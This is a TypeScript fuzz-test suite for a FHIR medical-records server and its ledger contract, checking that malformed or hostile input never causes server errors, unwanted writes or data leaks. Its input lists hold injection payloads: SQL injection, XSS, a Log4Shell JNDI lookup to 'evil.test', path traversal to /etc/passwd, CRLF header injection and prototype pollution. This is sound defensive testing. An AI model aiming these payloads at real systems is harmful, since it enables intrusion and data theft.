/**
 * Fuzzing (issue 9): every endpoint with structure-aware mutants (valid FHIR and API bodies mutated field by field)
 * and raw malformed input (broken JSON, invalid UTF-8, huge bodies, deep nesting, injection strings, path traversal
 * in ids, odd headers); then the contract's transaction arguments the same way. Zero 5xx, the server stays up, and
 * nothing is written for rejected input (ledger, vault and server-store row counts before/after).
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { isDomainError } from '@medledger/core';
import { grant, ids, observation, seededRandom, storeCounts, TestServer } from './testing/fixtures.js';
import type { Json } from './testing/fixtures.js';

type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';

const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE vault_records; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a\u0000b',
  'line\r\nX-Injected: 1',
  '\ud800',
  '\u202e\u0645\u0631\u062d\u0628\u0627',
  '__proto__',
  'constructor',
  'Patient/../../Patient/pt-00',
  '𝕏'.repeat(50),
];

/** What a field may be replaced with: wrong types, boundary values, injections, big and deep values. */
function mutantsOf(value: unknown): unknown[] {
  const deep = (n: number): unknown => (n === 0 ? 'x' : { a: deep(n - 1) });
  const base: unknown[] = [
    null,
    true,
    0,
    -1,
    1e308,
    -0,
    '',
    ' ',
    'x'.repeat(100_000),
    [],
    {},
    [null],
    deep(60),
    ...INJECTIONS,
  ];
  if (typeof value === 'string') base.push(value + '\u0000', value.toUpperCase(), `${value}/../x`, value.slice(1));
  if (typeof value === 'number') base.push(String(value), value + 0.5, Number.MAX_SAFE_INTEGER + 2);
  if (Array.isArray(value)) base.push([...(value as unknown[]), ...(value as unknown[])], value[0]);
  return base;
}

/** Every JSON path of a value (objects and arrays), breadth first. */
function paths(value: unknown, prefix: Array<string | number> = []): Array<Array<string | number>> {
  if (value === null || typeof value !== 'object') return [];
  const entries = Array.isArray(value) ? value.map((v, i) => [i, v] as const) : Object.entries(value as Json);
  return entries.flatMap(([key, child]) => [[...prefix, key], ...paths(child, [...prefix, key])]);
}

function setAt(root: unknown, path: ReadonlyArray<string | number>, replacement: unknown, remove = false): unknown {
  const copy = structuredClone(root) as Json;
  let node: Json = copy;
  for (const key of path.slice(0, -1)) node = node[key as string] as Json;
  const last = path.at(-1) as string;
  if (remove) {
    if (Array.isArray(node)) node.splice(Number(last), 1);
    else Reflect.deleteProperty(node, last);
  } else node[last] = replacement;
  return copy;
}

describe('fuzzing every endpoint and the contract', () => {
  let server: TestServer;
  let alice: string;
  let bob: string;
  let aliceObs: string;
  let requests = 0;
  let rejected = 0;
  let accepted = 0;
  const fiveHundreds: string[] = [];

  /** Sends one request; checks no 5xx, an OperationOutcome for errors, and no write when it was rejected. */
  async function probe(
    who: string | undefined,
    method: Method,
    url: string,
    body?: unknown,
    headers: Record<string, string> = {},
  ): Promise<number> {
    const before = storeCounts(server.dataDir);
    const response = await server.as(who, method, url, body, headers);
    requests += 1;
    if (response.status >= 500)
      fiveHundreds.push(`${method} ${url.slice(0, 120)} → ${response.status}: ${response.text.slice(0, 300)}`);
    if (response.status >= 400) {
      rejected += 1;
      assert.equal(
        response.body.resourceType ?? (response.body.error === undefined ? undefined : 'OAuth'),
        response.body.error === undefined ? 'OperationOutcome' : 'OAuth',
        response.text.slice(0, 200),
      );
      const afterCounts = storeCounts(server.dataDir);
      for (const [key, count] of Object.entries(afterCounts)) {
        // Reads are audited (AuthorizeAccess commits even when it refuses): the ledger may grow on a rejected GET.
        if (method === 'GET' && key.startsWith('ledger.')) continue;
        assert.equal(
          count,
          before[key],
          `${method} ${url.slice(0, 80)} (${response.status}: ${response.text.slice(0, 300)}) changed ${key}; body ${(JSON.stringify(body) as string | undefined)?.slice(0, 600) ?? ''}`,
        );
      }
    } else accepted += 1;
    return response.status;
  }

  before(async () => {
    server = await TestServer.start({ env: { MEDLEDGER_BODY_LIMIT: String(1024 * 1024) } });
    alice = server.patientId('alice');
    bob = server.patientId('bob');
    aliceObs = ids(await server.as('alice', 'GET', '/fhir/Observation'))[0] ?? '';
  });
  after(async () => {
    process.stdout.write(
      `# fuzz: ${requests} HTTP requests (${rejected} rejected, ${accepted} accepted), ${fiveHundreds.length} 5xx\n`,
    );
    await server.stop();
  });

  it('structure-aware: valid FHIR and API bodies mutated field by field', async () => {
    const templates: Array<{ who: string; method: Method; url: string; body: Json }> = [
      { who: 'dr.grey', method: 'POST', url: '/fhir/Observation', body: observation(alice) },
      {
        who: 'dr.grey',
        method: 'POST',
        url: '/fhir/Condition',
        body: {
          resourceType: 'Condition',
          clinicalStatus: {
            coding: [{ system: 'http://terminology.hl7.org/CodeSystem/condition-clinical', code: 'active' }],
          },
          code: { coding: [{ system: 'http://snomed.info/sct', code: '38341003' }] },
          subject: { reference: `Patient/${alice}` },
          onsetDateTime: '2024-05-20',
        },
      },
      {
        who: 'dr.grey',
        method: 'POST',
        url: '/fhir/Patient',
        body: {
          resourceType: 'Patient',
          name: [{ family: 'Fuzz', given: ['Fiona'] }],
          birthDate: '1970-01-01',
          telecom: [{ system: 'phone', value: '555-0100' }],
        },
      },
      { who: 'alice', method: 'POST', url: '/fhir/Consent', body: grant(alice) },
      {
        who: 'dr.grey',
        method: 'PUT',
        url: `/fhir/Observation/${aliceObs}`,
        body: { ...observation(alice), id: aliceObs },
      },
      {
        who: 'dr.grey',
        method: 'POST',
        url: '/fhir',
        body: {
          resourceType: 'Bundle',
          type: 'transaction',
          entry: [
            {
              fullUrl: 'urn:uuid:4a0b5a2e-2c59-4d7e-9b7a-3f2c1d0e9a11',
              resource: { resourceType: 'Patient', name: [{ family: 'Bundlefuzz' }] },
              request: { method: 'POST', url: 'Patient' },
            },
            {
              resource: {
                ...observation(alice),
                subject: { reference: 'urn:uuid:4a0b5a2e-2c59-4d7e-9b7a-3f2c1d0e9a11' },
              },
              request: { method: 'POST', url: 'Observation' },
            },
          ],
        },
      },
      {
        who: 'dr.house',
        method: 'POST',
        url: '/api/access-requests',
        body: { patient: `Patient/${alice}`, resourceTypes: ['Observation'], reasonCode: 'referral', reason: 'fuzz' },
      },
      {
        who: 'dr.house',
        method: 'POST',
        url: '/api/break-glass',
        body: { patient: `Patient/${bob}`, reason: 'fuzz emergency', reasonCode: 'unconscious-patient' },
      },
      {
        who: 'admin.hospa',
        method: 'POST',
        url: '/api/admin/users',
        body: { username: 'fuzz.user', displayName: 'Fuzz', role: 'clinician', password: 'a-long-enough-password-1' },
      },
      {
        who: 'po.hospb',
        method: 'POST',
        url: '/api/emergency-reviews/eg-00000000000000000000000000000000',
        body: { patient: `Patient/${bob}`, outcome: 'justified', note: 'fuzz' },
      },
    ];
    const random = seededRandom(9);
    for (const template of templates) {
      for (const path of paths(template.body)) {
        const original = path.reduce<unknown>((node, key) => (node as Json)[key as string], template.body);
        const mutants = mutantsOf(original);
        // Every path gets its removal and a seeded sample of 6 mutants (all of them for top-level fields).
        const chosen = path.length === 1 ? mutants : mutants.filter(() => random() < 6 / mutants.length);
        await probe(template.who, template.method, template.url, setAt(template.body, path, undefined, true));
        for (const mutant of chosen) {
          await probe(template.who, template.method, template.url, setAt(template.body, path, mutant));
        }
      }
    }
    assert.deepEqual(fiveHundreds, []);
  });

  it('raw: malformed JSON, invalid UTF-8, wrong media types, huge and deeply nested bodies', async () => {
    const raw: Array<[string, string | Buffer, string?]> = [
      ['truncated', '{"resourceType":"Observation",'],
      ['trailing garbage', '{"resourceType":"Observation"}xyz'],
      ['a bare string', '"Observation"'],
      ['a number', '12'],
      ['null', 'null'],
      ['an array', '[{"resourceType":"Observation"}]'],
      ['empty', ''],
      ['proto pollution', '{"resourceType":"Observation","__proto__":{"admin":true}}'],
      ['constructor pollution', '{"resourceType":"Observation","constructor":{"prototype":{"x":1}}}'],
      [
        'duplicate keys',
        `{"resourceType":"Observation","subject":{"reference":"Patient/${bob}"},"subject":{"reference":"Patient/${alice}"},"status":"final","code":{"text":"x"}}`,
      ],
      [
        'invalid UTF-8',
        Buffer.concat([
          Buffer.from('{"resourceType":"Observation","status":"'),
          Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
          Buffer.from('"}'),
        ]),
      ],
      [
        'UTF-16 BOM',
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('{"resourceType":"Observation"}', 'utf16le')]),
      ],
      ['deep arrays', '['.repeat(100_000) + ']'.repeat(100_000)],
      ['deep objects', '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000)],
      ['deep extension', JSON.stringify({ ...observation(alice), extension: nestExtension(800) })],
      ['huge body', JSON.stringify({ ...observation(alice), note: [{ text: 'x'.repeat(2 * 1024 * 1024) }] })],
      ['many fields', JSON.stringify(Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`f${i}`, i])))],
      [
        'huge array',
        JSON.stringify({
          ...observation(alice),
          component: Array.from({ length: 20_000 }, () => ({ code: { text: 'c' } })),
        }),
      ],
      ['xml', '<Observation xmlns="http://hl7.org/fhir"/>', 'application/fhir+xml'],
      ['form', 'resourceType=Observation', 'application/x-www-form-urlencoded'],
      ['text', JSON.stringify(observation(alice)), 'text/plain'],
      ['charset latin1', JSON.stringify(observation(alice)), 'application/fhir+json; charset=latin1'],
    ];
    const targets: Array<[Method, string]> = [
      ['POST', '/fhir/Observation'],
      ['POST', '/fhir/Patient'],
      ['POST', '/fhir/Consent'],
      ['PUT', `/fhir/Observation/${aliceObs}`],
      ['POST', '/fhir'],
      ['POST', '/api/access-requests'],
      ['POST', '/api/break-glass'],
      ['POST', '/api/admin/users'],
    ];
    for (const [method, url] of targets) {
      for (const [name, body, type] of raw) {
        const who = url.includes('admin') ? 'admin.hospa' : url.includes('Consent') ? 'alice' : 'dr.grey';
        const response = await server.app.inject({
          method,
          url,
          headers: {
            authorization: `Bearer ${await server.token(who)}`,
            'content-type': type ?? 'application/fhir+json',
          },
          payload: body,
        });
        requests += 1;
        if (response.statusCode >= 500)
          fiveHundreds.push(`${method} ${url} ${name} → ${response.statusCode}: ${response.body.slice(0, 200)}`);
        if (response.statusCode >= 400) rejected += 1;
        else accepted += 1;
      }
    }
    assert.deepEqual(fiveHundreds, []);
    assert.equal((await server.as(undefined, 'GET', '/health')).status, 200, 'the server is still up');
  });

  it('ids and search parameters: path traversal, injections, odd lengths and encodings — never 5xx, never data of others', async () => {
    const badIds = [
      '..%2F..%2Fetc%2Fpasswd',
      '..',
      '.',
      '%00',
      'r-' + '0'.repeat(24) + '%00',
      'r-' + 'g'.repeat(24),
      'r-' + '0'.repeat(500),
      'R-' + randomBytes(12).toString('hex').toUpperCase(),
      encodeURIComponent("r-1' OR '1'='1"),
      encodeURIComponent(`${aliceObs}/../${aliceObs}`),
      encodeURIComponent('<script>'),
      '%E0%A4%A',
      '%C0%AE%C0%AE%2F',
      'x'.repeat(5000),
      aliceObs.toUpperCase(),
      `${aliceObs}%20`,
      'pt-' + randomBytes(16).toString('hex'),
    ];
    const types = [
      'Observation',
      'Condition',
      'Patient',
      'Consent',
      'AuditEvent',
      'Practitioner',
      'Organization',
      'Binary',
    ];
    for (const type of types) {
      for (const id of badIds) {
        for (const method of ['GET', 'DELETE'] as const) {
          const status = await probe('dr.house', method, `/fhir/${type}/${id}`);
          assert.ok([400, 401, 403, 404, 414].includes(status), `${method} ${type}/${id} → ${status}`);
        }
        await probe('dr.house', 'GET', `/fhir/Patient/${id}/$everything`);
        await probe('alice', 'GET', `/fhir/Consent/${id}/_history`);
        await probe('alice', 'POST', `/api/access-requests/${id}/approve`, {});
      }
    }
    for (const injection of INJECTIONS) {
      const q = Buffer.from(injection)
        .toString('binary')
        .replace(/[^A-Za-z0-9_.~-]/g, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`);
      for (const url of [
        `/fhir/Observation?patient=${q}`,
        `/fhir/Observation?patient=${alice}&code=${q}`,
        `/fhir/Observation?patient=${alice}&date=${q}`,
        `/fhir/Observation?patient=${alice}&_count=${q}`,
        `/fhir/Observation?patient=${alice}&_offset=${q}`,
        `/fhir/Patient?name=${q}`,
        `/fhir/Patient?identifier=${q}`,
        `/fhir/AuditEvent?patient=${q}`,
        `/fhir/${q}`,
        `/fhir/${q}/${q}`,
        `/api/${q}`,
      ]) {
        const status = await probe('dr.house', 'GET', url);
        assert.ok(status < 500);
      }
      const response = await server.as('dr.house', 'GET', `/fhir/Patient?name=${q}`);
      assert.ok(!response.text.includes(alice), 'no HospitalA patient through an injected name');
    }
    const odd: Array<Record<string, string>> = [
      { 'x-purpose-of-use': 'ETREAT, TREAT' },
      { 'x-purpose-of-use': "TREAT'--" },
      { 'x-purpose-of-use': '' },
      { 'x-request-id': '../../x' },
      { 'x-patient-request': 'x'.repeat(10_000) },
      { accept: 'application/xml' },
      { 'content-type': 'application/fhir+json; charset=utf-16' },
    ];
    for (const header of odd) {
      await probe('dr.house', 'GET', `/fhir/Observation?patient=${alice}`, undefined, header);
      await probe('dr.grey', 'DELETE', `/fhir/Observation/r-${randomBytes(12).toString('hex')}`, undefined, header);
    }
    assert.deepEqual(fiveHundreds, []);
  });

  it('random JSON bodies (fast-check, seeded) at every write endpoint', async () => {
    const endpoints: Array<[string, Method, string]> = [
      ['dr.grey', 'POST', '/fhir/Observation'],
      ['dr.grey', 'POST', '/fhir'],
      ['alice', 'POST', '/fhir/Consent'],
      ['alice', 'PUT', '/fhir/Consent/c-00000000000000000000000000000000'],
      ['dr.grey', 'POST', '/fhir/Patient'],
      ['dr.house', 'POST', '/api/access-requests'],
      ['dr.house', 'POST', '/api/break-glass'],
      ['alice', 'POST', '/api/access-requests/ar-00000000000000000000000000000000/approve'],
      ['admin.hospa', 'POST', '/api/admin/users'],
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...endpoints),
        fc.oneof(
          fc.jsonValue(),
          fc.record({
            resourceType: fc.constantFrom('Observation', 'Bundle', 'Consent', 'Patient'),
            x: fc.jsonValue(),
          }),
          fc.dictionary(
            fc.constantFrom(
              'resourceType',
              'status',
              'subject',
              'patient',
              'code',
              'entry',
              'type',
              'provision',
              'role',
              'username',
              'reason',
            ),
            fc.jsonValue(),
          ),
        ),
        async ([who, method, url], body) => {
          const status = await probe(who, method, url, JSON.stringify(body));
          return status < 500;
        },
      ),
      { seed: 9, numRuns: 300 },
    );
    assert.deepEqual(fiveHundreds, []);
  });

  it("contract: every transaction's arguments fuzzed through a real ledger client; refusals are DomainErrors and write nothing", async () => {
    const network = server.medledger.network;
    const valid: Array<[string, string, Json]> = [
      ['dr.grey', 'RegisterPatient', { patientUid: 'pu-' + randomBytes(16).toString('hex') }],
      ['dr.grey', 'AuthorizeAccess', { patientId: alice, purpose: 'TREAT', resourceTypes: ['Observation'] }],
      ['dr.grey', 'GetRecordMetadata', { recordId: aliceObs }],
      ['alice', 'RevokeConsent', { consentId: 'c-' + '0'.repeat(32) }],
      ['alice', 'GetConsentHistory', { consentId: 'c-' + '0'.repeat(32) }],
      [
        'dr.house',
        'RequestAccess',
        {
          patientId: alice,
          purpose: 'TREAT',
          resourceTypes: ['Observation'],
          sensitiveLabels: [],
          reasonCode: 'referral',
        },
      ],
      ['alice', 'RespondToAccessRequest', { requestId: 'ar-' + '0'.repeat(32), decision: 'deny' }],
      ['dr.house', 'BreakGlass', { patientId: bob, reasonHash: 'a'.repeat(64), reasonCode: 'unconscious-patient' }],
      ['po.hospa', 'ReviewEmergencyAccess', { grantId: 'eg-' + '0'.repeat(32), patientId: bob, outcome: 'justified' }],
      ['admin.hospa', 'SetEmergencyPolicy', { durationMinutes: 240 }],
      ['alice', 'GetAuditTrail', { pageSize: 10 }],
      ['admin.hospa', 'MigrateAuditIndexes', { pageSize: 10 }],
      ['res.rosa', 'ProposeStudy', { resourceTypes: ['Observation'], protocolHash: 'b'.repeat(64), epsilonBudget: 1 }],
      ['irb.ines', 'DecideStudy', { studyId: 'st-' + '0'.repeat(32), decision: 'approve' }],
      ['res.rosa', 'SpendPrivacyBudget', { studyId: 'st-' + '0'.repeat(32), epsilon: 0.1, queryHash: 'c'.repeat(64) }],
      [
        'ph.olive',
        'AuthorizeCohort',
        { patientIds: [alice, bob], purpose: 'PUBHLTH', studyId: 'st-' + '0'.repeat(32) },
      ],
      ['alice', 'EraseRecord', { recordId: 'r-' + '0'.repeat(24) }],
      ['alice', 'PutConsent', grant(alice)],
    ];
    let calls = 0;
    let refused = 0;
    const internal: string[] = [];
    const random = seededRandom(99);
    for (const [who, fn, args] of valid) {
      const client = await network.client(who);
      const variants: string[] = [
        '',
        'null',
        '[]',
        '"x"',
        '{',
        '{}',
        JSON.stringify({ ...args, extra: 1 }),
        'x'.repeat(3 * 1024 * 1024),
      ];
      for (const path of paths(args)) {
        const original = path.reduce<unknown>((node, key) => (node as Json)[key as string], args);
        variants.push(JSON.stringify(setAt(args, path, undefined, true)));
        for (const mutant of mutantsOf(original).filter(() => random() < 0.35))
          variants.push(JSON.stringify(setAt(args, path, mutant)));
      }
      for (const variant of variants) {
        const before = storeCounts(server.dataDir);
        calls += 1;
        try {
          await client.submit(fn, variant);
        } catch (error: unknown) {
          refused += 1;
          if (!isDomainError(error)) internal.push(`${fn}: not a DomainError: ${String(error).slice(0, 200)}`);
          else if (error.code === 'INTERNAL')
            internal.push(`${fn} ${variant.slice(0, 100)}: INTERNAL ${error.message.slice(0, 200)}`);
          const afterCounts = storeCounts(server.dataDir);
          // A refused AuthorizeAccess/AuthorizeCohort is audited only when its arguments parsed; anything else writes nothing.
          for (const key of ['ledger.state', 'ledger.history']) {
            if (fn.startsWith('Authorize')) continue;
            assert.equal(afterCounts[key], before[key], `${fn} refused but wrote ${key}`);
          }
        }
      }
    }
    process.stdout.write(
      `# contract fuzz: ${calls} submissions, ${refused} refused, ${internal.length} internal errors\n`,
    );
    assert.deepEqual(internal, []);
    assert.equal((await server.as(undefined, 'GET', '/health')).status, 200);
  });
});

function nestExtension(depth: number): Json[] {
  let node: Json = { url: 'http://x.test/e', valueString: 'leaf' };
  for (let i = 0; i < depth; i += 1) node = { url: 'http://x.test/e', extension: [node] };
  return [node];
}
